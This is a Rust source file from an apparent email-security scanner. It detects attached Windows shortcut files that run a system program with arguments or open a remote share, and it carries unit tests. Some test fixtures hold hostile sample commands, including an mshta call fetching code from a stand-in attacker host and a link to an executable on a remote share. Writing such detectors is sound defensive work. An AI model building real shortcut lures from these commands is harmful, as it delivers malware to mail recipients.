//! An attached shortcut starts a program of the system with arguments, or leads to a share of a stranger.
//!
//! Why: the shortcut looks like a document and runs what its sender wrote in it: a command that fetches the rest.
//!
//! Wrong when: administrators send each other shortcuts to their tools.
use crate::readings::Kind;
use crate::signals::file_name::name_of;
use crate::signals::parts;
use crate::signals::{Direction, Examination, Finding, Group, Signal, Threat};

pub(in crate::signals) const SIGNAL: Signal = Signal {
    id: "attachments.shortcut_command",
    group: Group::Attachments,
    direction: Direction::Threat,
    threats: &[Threat::Malware],
    evidence: &["name", "command"],
    since: "0.2.0",
    inspect,
};

fn inspect(examination: &Examination<'_>) -> Option<Finding> {
    parts::parts(examination).find_map(|(attachment, contents)| {
        let contents = contents?;
        let holds_shortcut = contents.kind == Some(Kind::Shortcut)
            || contents
                .entries
                .iter()
                .any(|entry| entry.kind == Some(Kind::Shortcut));
        // A shortcut to the web has no command, but a share or a file elsewhere is opened like one.
        let is_opened = |link: &&String| link.starts_with("file:") || link.starts_with("\\\\");
        let command = contents
            .command
            .as_ref()
            .or_else(|| contents.links.iter().find(is_opened));
        let command = command.filter(|_| holds_shortcut)?;
        let finding = SIGNAL.found().with("name", name_of(attachment));
        Some(finding.with("command", command.as_str()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::readings::{Entry, PartContents};
    use crate::signals::testing::{Mail, assert_fact, assert_fires, assert_silent};

    fn mail(contents: PartContents) -> Mail {
        let mail = Mail::any().attach("Invoice.lnk", "application/octet-stream", b"\x00");
        mail.reading(0, contents)
    }

    #[test]
    fn fires_on_a_shortcut_with_a_command() {
        let finding = assert_fires(
            &SIGNAL,
            mail(PartContents {
                kind: Some(Kind::Shortcut),
                command: Some("mshta.exe https://evil.example/a".into()),
                ..PartContents::default()
            }),
        );
        assert_fact(&finding, "command", "mshta.exe https://evil.example/a");
    }

    #[test]
    fn fires_on_a_shortcut_in_an_archive() {
        let entry = Entry {
            path: "a.lnk".into(),
            kind: Some(Kind::Shortcut),
            ..Entry::default()
        };
        assert_fires(
            &SIGNAL,
            mail(PartContents {
                entries: vec![entry],
                command: Some("cmd /c x".into()),
                ..PartContents::default()
            }),
        );
    }

    #[test]
    fn fires_on_a_shortcut_to_a_share() {
        assert_fires(
            &SIGNAL,
            mail(PartContents {
                kind: Some(Kind::Shortcut),
                links: vec!["file://192.0.2.7/share/a.exe".into()],
                ..PartContents::default()
            }),
        );
    }

    #[test]
    fn silent_on_a_shortcut_to_a_page() {
        assert_silent(
            &SIGNAL,
            mail(PartContents {
                kind: Some(Kind::Shortcut),
                links: vec!["https://shop.example/".into()],
                ..PartContents::default()
            }),
        );
    }

    #[test]
    fn silent_on_documents_with_commands_of_their_own_signal() {
        assert_silent(
            &SIGNAL,
            mail(PartContents {
                kind: Some(Kind::Document),
                command: Some("cmd".into()),
                ..PartContents::default()
            }),
        );
    }
}
